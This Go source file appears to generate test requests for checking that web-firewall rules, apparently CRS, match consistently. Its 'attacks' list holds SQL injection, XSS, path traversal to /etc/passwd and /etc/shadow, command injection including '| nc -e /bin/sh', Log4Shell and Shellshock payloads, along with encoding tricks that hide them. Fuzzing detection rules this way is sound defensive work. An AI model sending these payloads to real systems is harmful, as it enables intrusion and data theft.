package parity

import (
	"encoding/base64"
	"encoding/hex"
	"net/url"
	"strings"
)

// The vocabulary that generated rules and generated requests have in common, so that rules match.

var argumentNames = []string{
	"q", "id", "a", "A", "name", "Name", "user.name", "items[]", "x-y", "json.a", "json", "0", "é", "a b", "", "__proto__", "a\xff", "very" + strings.Repeat("long", 20),
}

// plainNames can stand in a selector.
var plainNames = []string{"q", "id", "a", "A", "name", "Name", "user.name", "items[]", "x-y", "json.a", "json.a.b", "json.0", "0", "é", "__proto__"}

var headerNames = []string{"X-A", "x-a", "X-B", "User-Agent", "Referer", "X-Forwarded-For", "Accept", "Accept-Encoding", "Authorization", "X-Empty", "Range", "Origin"}

var cookieNames = []string{"sid", "SID", "a", "theme", "q", "__utma", "JSESSIONID", "x[y]"}

var responseHeaderNames = []string{"X-A", "Set-Cookie", "Server", "Location", "X-Powered-By", "Cache-Control"}

// txKeys are names in TX that rules set and read. The middle ones are captures, the last belong to CRS.
var txKeys = []string{
	"score", "a", "b", "flag", "list", "n", "x_q", "x_a", "x_id", "x_foo", "x_", "0", "1", "2", "3",
	"blocking_inbound_anomaly_score", "detection_inbound_anomaly_score", "inbound_anomaly_score_threshold", "sql_injection_score", "xss_score",
}

// words are short values: what operators look for, and what requests carry.
var words = []string{
	"foo", "FOO", "Foo", "bar", "admin", "root", "select", "union", "SELECT", "script", "onerror", "etc", "passwd", "bash", "cmd", "jndi",
	"0", "1", "2", "5", "7", "10", "-5", "+7", "007", "1e3", "99999999999999999999", "true", "GET", "POST", "text", "é", "ſelect", "Kelvin", "straße", "日本",
	" ", "  x  ", "a b", "a,b", "a|b", "a;b", "(", ")", "[", "<", ">", "'", "\"", "%", "&", "=", "+", "/", "\\", ".", "..", "--", "#", "$", "{", "}", "`", "~", "^", "*", "?",
	"x", "y", "192.0.2.1", "198.51.100.7", "::1", "shop.example.com", "localhost",
}

// attacks are longer values that rules of CRS match, and neighbours of such that they do not.
var attacks = []string{
	"1' OR '1'='1", "1' union select 1,2,3--+-", "admin'--", "1; DROP TABLE users", "sleep(5)#", "union jack", "select a colour",
	"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<b>bold</b>", "<svg/onload=alert`1`>",
	"../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/./passwd", "file:///etc/shadow", "php://filter/resource=x",
	"; cat /etc/passwd", "$(id)", "`whoami`", "| nc -e /bin/sh", "c:\\windows\\cmd.exe", "w'g'et http://x", "/bin/c?t",
	"${jndi:ldap://x.example/a}", "${${lower:j}ndi:${lower:l}dap://x}", "() { :;}; echo vulnerable", "<?php system('id'); ?>", "{{7*7}}", "#{7*7}",
	"%27%20or%201=1", "%2527", "%u0027%u006fr", "%c0%ae%c0%ae/", "%", "%2", "%zz", "%00", "+%2B+", "a%0d%0aSet-Cookie:x",
	"&lt;script&gt;", "&#x3c;script&#62;", "&#60script", "&amp;lt;", "&bogus;", "\\x3cscript", "\\u003cscript", "\\74script", "\\n\\t\\0",
	"/* comment */ select /*!50000 1*/", "-- comment\nselect 1", "<!-- x -->", "uni/**/on", "a/*b", "s e\tl\ne  c t",
	"YWRtaW46cGFzcw==", "YWRtaW4", "3c736372697074", "0x3c73", "rO0ABXNy", "O:8:\"stdClass\":0:{}", "__class__.__mro__", "{\"$ne\":null}",
	"4111111111111111", "123-45-6789", "11.111.111-1", "+1 (555) 0100", "user@example.com", "http://198.51.100.9/x.php?a=http://x", "2027-06-30T12:00:00Z",
}

// strange are values that parsers and automata stumble over.
var strange = []string{
	"", "\x00", "a\x00b", "\xff", "\xffselect\xff", "sel\xffect", "\xc3", "\xc3\x28", "\xe2\x82", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xc0\xafetc", "\ufffd", "\u2028", "\u00a0x\u00a0",
	"\u212a", "\u017f", "\u0130", "a\nb", "foo\nbar\n", "\nfoo", "foo\r\nbar", "\r", "\n", "\t", "\v\f", "\x1b[0m", "\x7f", "\x80", "foo\x00", " foo", "foo ", "\u0301e",
}

// value is a value of a request.
func (c *Choices) value() string {
	switch n := c.N(100); {
	case n < 30:
		return c.word()
	case n < 45:
		return c.word() + pick(c, []string{"", " ", "-", "/", "=", "+", "\n"}) + c.word()
	case n < 68:
		return c.attack()
	case n < 80:
		return pick(c, strange)
	case n < 90:
		return c.encoded(c.attack())
	case n < 94:
		return pick(c, strange) + c.attack() + pick(c, strange)
	case n < 97:
		return c.noise(c.N(40))
	case n < 99:
		return strings.Repeat(c.word(), 1+c.N(30))
	}
	return strings.Repeat(c.attack()+c.word(), 1+c.N(300))
}

// encoded writes a value in one of the ways that transformations undo.
func (c *Choices) encoded(s string) string {
	switch c.N(13) {
	case 8:
		return strings.NewReplacer("s", `\73 `, "o", `\6f`, "'", `\000027`, "/", `\/`).Replace(s)
	case 9:
		return strings.NewReplacer("/", "/./", " ", "  \t ").Replace(s)
	case 10:
		return "\x00" + strings.ReplaceAll(s, "/", "\\") + "\x00 "
	case 11:
		return pick(c, words) + "\n" + s + "\n" + pick(c, words)
	case 0:
		return url.QueryEscape(s)
	case 1:
		return url.QueryEscape(url.QueryEscape(s))
	case 2:
		return base64.StdEncoding.EncodeToString([]byte(s))
	case 3:
		return hex.EncodeToString([]byte(s))
	case 4:
		return strings.ToUpper(s)
	case 5:
		return strings.NewReplacer("<", "&lt;", "'", "&#39;", " ", "&nbsp;").Replace(s)
	case 6:
		return strings.ReplaceAll(s, " ", "/**/")
	case 7:
		return strings.NewReplacer("s", `\x73`, "<", `\u003c`, "'", `\'`).Replace(s)
	}
	return strings.ReplaceAll(s, "e", "e\x00")
}

// noise is n bytes of anything.
func (c *Choices) noise(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(c.N(256))
	}
	return string(b)
}
